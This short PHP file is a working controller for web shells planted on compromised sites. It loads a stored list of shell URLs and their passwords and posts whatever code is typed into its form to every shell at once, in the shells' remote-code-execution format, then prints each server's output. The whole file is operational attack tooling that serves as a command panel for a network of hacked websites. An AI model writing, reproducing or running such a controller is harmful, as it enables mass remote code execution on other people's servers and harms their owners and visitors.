<?php
// A controller for shells planted on other sites: the code typed here is packed in the shells' own
// remote-control format and posted to each address kept in the list, with each one's password.
$list = @unserialize(@file_get_contents(__DIR__ . '/targets.dat')) ?: array();
if (!empty($_POST['run']) && isset($_POST['code'])) {
    foreach ($list as $t) {
        $body = http_build_query(array('pass' => $t['key'], 'a' => 'RC', 'p1' => $_POST['code'], 'p2' => ''));
        $ctx = stream_context_create(array('http' => array('method' => 'POST', 'content' => $body,
            'header' => "Content-Type: application/x-www-form-urlencoded\r\n")));
        echo '<h3>' . htmlspecialchars($t['url']) . '</h3><pre>' . @file_get_contents($t['url'], false, $ctx) . '</pre>';
    }
}
?>
<form method="post"><textarea name="code"></textarea><input type="submit" name="run" value="go"></form>
